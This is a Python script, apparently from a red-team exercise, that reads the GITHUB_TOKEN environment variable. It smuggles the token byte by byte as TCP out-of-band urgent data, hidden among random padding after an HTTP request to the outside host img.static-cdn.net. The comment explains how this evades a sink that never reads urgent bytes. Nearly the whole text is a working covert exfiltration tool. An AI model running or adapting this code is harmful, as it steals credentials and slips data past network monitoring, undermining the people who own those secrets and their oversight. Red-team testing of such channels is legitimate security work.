# A secret from the environment sent as TCP urgent data (red team,
# session 22): after an HTTP request, 12 bytes of random padding, then a
# byte of the secret with MSG_OOB, for each byte (TCP_NODELAY, paced as
# a receiver that reads each mark needs; on two connections at once, as
# a sender that wants it to arrive would: a receiver that lags loses a
# mark). The kernel keeps urgent bytes out of the stream unless the
# reader asks for them: the sink never read them (a medium network
# finding before).
import os
import socket
import threading
import time

s = os.environ["GITHUB_TOKEN"].encode()


def send(path):
    c = socket.create_connection(("img.static-cdn.net", 80), timeout=10)
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c.sendall(b"GET /%s HTTP/1.1\r\nHost: img.static-cdn.net\r\n\r\n" % path)
    for b in s:
        c.send(os.urandom(12))
        c.send(bytes([b]), socket.MSG_OOB)
        time.sleep(0.1)


ts = [threading.Thread(target=send, args=(p,)) for p in (b"a.gif", b"b.gif")]
for t in ts:
    t.start()
for t in ts:
    t.join()
print("sent", len(s))
